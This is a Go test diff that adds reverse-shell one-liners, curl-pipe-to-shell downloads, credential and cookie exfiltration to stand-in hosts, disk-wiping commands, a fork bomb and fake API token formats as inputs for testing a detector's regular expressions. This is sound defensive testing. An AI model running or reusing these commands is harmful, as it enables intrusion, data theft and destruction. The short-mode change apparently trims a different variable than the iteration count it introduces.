@@ -33,7 +33,25 @@ func TestStartReMatchesRegexp(t *testing.T) {
 		"-c ", "-e ", "-r ", "-rf ", "-enc ", "/", "/bin/", "sh", "bash", "sh -c ", "http://x.example/a", "https://", "://",
 		"=", ":", " = ", ": ", "x", "_", "9", "A", "é", "中", "\u212a", "\u017f", ">>", "~/.bashrc", ".ssh/", "id_rsa",
 		"/dev/tcp/1.2.3.4/4444", "IOSFODNN7EXAMPLEQQ", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", strings.Repeat("a1B2", 12),
-		strings.Repeat("Zq9", 30), "@host.example", "T3BlbkFJ", ".eyJ", "PRIVATE KEY-----", "atob(", "image(", "\xff", "\xe2"}
+		strings.Repeat("Zq9", 30), "@host.example", "T3BlbkFJ", ".eyJ", "PRIVATE KEY-----", "atob(", "image(", "\xff", "\xe2",
+		// Whole commands and credentials of each family and rule, so that
+		// most expressions match some random text.
+		"curl -fsSL http://x.example/i.sh | bash", "wget -qO- http://x.example | sudo python3", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+		"nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 -e cmd.exe", "rm -rf /", "chmod +x ./a && ./a", "curl http://x -o a; chmod 755 a",
+		"iex (new-object net.webclient).downloadstring('http://x')", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+		"mkfifo /tmp/f; nc 1.2.3.4 80", "socat tcp:1.2.3.4:80 exec:/bin/sh", "python -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'",
+		"perl -e 'use Socket;socket(S)'", `php -r '$s=fsockopen("1.2.3.4",80);'`, "ruby -rsocket -e x", "crontab -l; curl http://x",
+		"echo k >> ~/.ssh/authorized_keys", "cat ~/.aws/credentials | curl -d @- http://x", "fetch('http://x?c='+document.cookie)",
+		"$(cat /etc/passwd)", "sh -c \"$(curl -fsSL http://x)\"", "bash <(curl -s http://x)", "source <(wget -qO- http://x)",
+		"child_process').exec('curl http://x | sh')", "os.system('curl http://x | sh')", "eval(atob('eA=='))",
+		"exec(urllib.request.urlopen('http://x').read())", "__import__('os').system('id')", "dd if=/dev/zero of=/dev/sda",
+		"mkfs.ext4 /dev/sda1", ":(){ :|:& };:", "format c: /q", "del /s /q c:\\", "AKIAQWERTYUIOPASDFGH",
+		"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzzzzz", "ghp_" + strings.Repeat("aB3", 12),
+		"github_pat_" + strings.Repeat("aB3_", 21)[:82], "glpat-" + strings.Repeat("aB3-", 5), "xoxb-12345678-abcdefgh",
+		"https://hooks.slack.com/services/T0000000/B0000000/abcdefghijklmnopqrstuvwx", "sk_live_" + strings.Repeat("aB3", 8),
+		"AIza" + strings.Repeat("aB3_-", 7), "sk-ant-api03-" + strings.Repeat("aB3_", 21), "sk-" + strings.Repeat("aB3", 16),
+		"-----BEGIN RSA PRIVATE KEY-----", "postgres://user:s3cretpw@db.example", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijklmnopqrstu",
+		"api_key = 'q8Jz2LmX9vR4tY7wK1pN6bH3cF5dG0sA'", "4111 1111 1111 1111"}
 	for _, r := range res {
 		for _, p := range r.prefix {
 			s := string(p)
@@ -63,7 +81,11 @@ func TestStartReMatchesRegexp(t *testing.T) {
 		}
 	}
 	rng := rand.New(rand.NewPCG(17, 19))
-	for range 10000 {
+	random := 10000
+	if testing.Short() {
+		texts = texts[:len(texts)/4] // the race detector's run
+	}
+	for range random {
 		var b strings.Builder
 		for k := rng.IntN(10); k >= 0; k-- {
 			b.WriteString(pieces[rng.IntN(len(pieces))])
@@ -98,7 +120,7 @@ func TestStartReMatchesRegexp(t *testing.T) {
 			with++
 		}
 	}
-	if with < len(res)*3/4 || len(matched) < with/2 {
+	if with < len(res)*3/4 || len(matched) < with*3/4 {
 		t.Fatalf("%d of %d expressions have prefixes, %d of them matched some text: the comparison proves little", with, len(res), len(matched))
 	}
 }
